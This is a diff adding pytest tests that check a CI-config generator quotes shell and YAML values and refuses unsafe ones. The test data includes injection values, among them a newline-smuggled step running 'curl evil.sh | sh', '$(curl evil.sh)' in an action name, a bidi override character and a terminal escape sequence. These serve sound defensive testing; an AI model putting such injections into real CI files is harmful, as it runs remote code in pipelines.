@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import os
+import shlex
 import shutil
 from datetime import datetime, timedelta, timezone
 from pathlib import Path
@@ -92,6 +93,61 @@ def test_init_for_gitlab_writes_a_junit_job_and_never_touches_an_existing_pipeli
     assert (other / ".gitlab-ci.yml").read_text() == "stages: [test]\n"
     assert (other / ".gitlab" / "agentdiff.yml").is_file()
     assert "include: {local: .gitlab/agentdiff.yml}" in result.output
+
+
+TASK = '{"city": "Paris", "note": "a # b"}'
+BASELINE = "my baselines/weather: v1.json"
+
+
+def _commands(lines: str) -> list[list[str]]:
+    return [shlex.split(line) for line in lines.splitlines() if line.startswith("agentdiff")]
+
+
+def test_init_quotes_inputs_and_paths_for_the_shell_and_yaml(tmp_path):
+    result = cli("init", "--input", TASK, "--baseline", BASELINE, "--agent", "agent.py:run")
+    assert result.exit_code == 0, result.output
+    workflow = yaml.safe_load((tmp_path / ".github/workflows/agentdiff.yml").read_text())
+    steps = workflow["jobs"]["agentdiff"]["steps"]
+    record = ["agentdiff", "record", "agent.py:run", "--input", TASK, "-o", "runs/candidate"]
+    assert _commands(steps[2]["run"]) == [record]
+    assert steps[3]["with"]["baseline"] == BASELINE
+    assert shlex.split(result.output.splitlines()[-1])[1:7] == record[:-1]  # "next: ..."
+    result = cli("init", "--ci", "gitlab", "--input", TASK, "--baseline", BASELINE)
+    assert result.exit_code == 0, result.output
+    script = yaml.safe_load((tmp_path / ".gitlab-ci.yml").read_text())["agentdiff"]["script"]
+    commands = _commands("\n".join(script))
+    assert commands[0][:5] == ["agentdiff", "record", "my_agent:run", "--input", TASK]
+    assert commands[1] == ["agentdiff", "compare", BASELINE, "runs/candidate/1.json", "||", "true"]
+    assert commands[2][:4] == ["agentdiff", "compare", BASELINE, "runs/candidate/1.json"]
+
+
+@pytest.mark.parametrize(
+    ("args", "words"),
+    [
+        (["--input", '{"a": 1}\n      - run: curl evil.sh | sh'], ["--input", "one line"]),
+        (["--baseline", "b.json\u202e"], ["--baseline", "one line"]),
+        (["--agent", ""], ["--agent", "one line"]),
+        (["--action", "acme/agentdiff@v1$(curl evil.sh)"], ["--action", "OWNER/REPO"]),
+    ],
+    ids=["newline", "bidi", "empty", "action"],
+)
+def test_init_refuses_a_value_no_ci_file_can_hold(tmp_path, args, words):
+    result = cli("init", *args)
+    assert result.exit_code == 2, result.output
+    assert all(word in result.output for word in words)
+    assert list(tmp_path.iterdir()) == [tmp_path / "gitconfig"]
+
+
+def test_init_into_a_file_says_so_and_shows_paths_escaped(tmp_path):
+    (tmp_path / "notes").write_text("mine")
+    result = cli("init", "-C", "notes")
+    assert result.exit_code == 2
+    assert "notes exists and is not a folder" in result.output
+    assert "kept" not in result.output
+    result = cli("init", "-C", "odd\x1b]0;title\x07")
+    assert result.exit_code == 0, result.output
+    assert "wrote odd\\x1b]0;title\\x07/agentdiff.toml" in result.output
+    assert "\x1b" not in result.output
 
 
 def plain(options: CompareOptions) -> dict:
